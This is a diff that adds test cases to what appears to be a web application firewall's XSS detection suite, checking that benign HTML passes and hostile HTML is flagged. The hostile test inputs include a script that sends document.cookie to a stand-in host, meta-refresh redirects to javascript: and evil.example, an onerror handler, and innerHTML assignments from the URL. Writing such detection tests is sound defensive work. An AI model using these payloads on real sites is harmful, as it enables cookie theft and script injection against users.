@@ -23,3 +23,33 @@ describe('XSS findings on third-party shapes real browsers send (benign-platform
     expect(rules(review('<meta content="0;url=data:text/html;base64,PHNjcmlwdD4=" http-equiv="refresh">')).length).toBeGreaterThan(0)
   })
 })
+
+describe('XSS findings on back-office and customer HTML (benign-browser.ndjson)', () => {
+  it('<meta name=… content=…> from a Word paste is metadata; content without a name still redirects', () => {
+    expect(rules(review('<html><head><meta name=ProgId content=Word.Document><meta name=Generator content="Microsoft Word 15"></head><body><p class=MsoNormal>Dear team</p></body></html>'))).toEqual([])
+    expect(rules(review('<meta content="0;url=javascript:alert(1)">'))).not.toEqual([])
+    expect(rules(review('<meta name="x" http-equiv="refresh" content="0;url=https://evil.example/">'))).toContain('waf.xss.risky-tag')
+  })
+
+  it('a JSON-LD <script> is a data block the browser never runs; a script after it, a typed one with src, or code in it still count', () => {
+    const ld = '<script type="application/ld+json">{"@context":"https://schema.org/","@type":"Product","name":"Teapot <350 ml>"}</script>'
+    expect(rules(review(`<p>Nice teapot</p>\n${ld}\n<p>More</p>`))).toEqual([])
+    expect(rules(review(`${ld}<script>fetch('//e.example/?'+document.cookie)</script>`))).toContain('waf.xss.script-tag')
+    expect(rules(review('<script type="application/json" src="https://e.example/x.js"></script>'))).toContain('waf.xss.script-tag')
+    expect(rules(review('<script type="text/javascript">var a = 1</script>'))).toContain('waf.xss.script-tag')
+    expect(rules(review('<script type="application/ld+json">{"a":1}</script><img src=x onerror=alert(1)>'))).toContain('waf.xss.event-handler')
+  })
+
+  it('a bare <iframe> named in a sentence and never closed counts at level 3; one that frames content or stands alone at level 1', () => {
+    expect(rules(review('Is this compatible with <iframe> embeds on Shopify? I want the widget on my page'))).toEqual([])
+    expect(createWafEngine({ level: 3 }).inspect(review('Is this compatible with <iframe> embeds on Shopify?')).matches.map((m) => m.rule)).toContain('waf.xss.script-tag')
+    expect(rules(review('<iframe> x </iframe>'))).toContain('waf.xss.script-tag')
+    expect(rules(review('<iframe>'))).toContain('waf.xss.script-tag')
+  })
+
+  it('.innerHTML = in a stack frame of an error report assigns the page its own rendering; assigning markup, a string or the URL is injection', () => {
+    const sentry = (line: string): WafRequest => json('/api/1/envelope/', 'text/plain;charset=UTF-8', { exception: { values: [{ stacktrace: { frames: [{ context_line: line, pre_context: ['  try {'] }] } }] } })
+    expect(rules(sentry('    e.innerHTML = template(product)'))).toEqual([])
+    for (const line of ['el.innerHTML = location.hash.slice(1)', 'd.body.innerHTML="<img src=x>"', 'x.innerHTML=`${name}`', 'x.innerHTML = decodeURIComponent(q)']) expect(rules(sentry(line)), line).toContain('waf.xss.dom-access')
+  })
+})
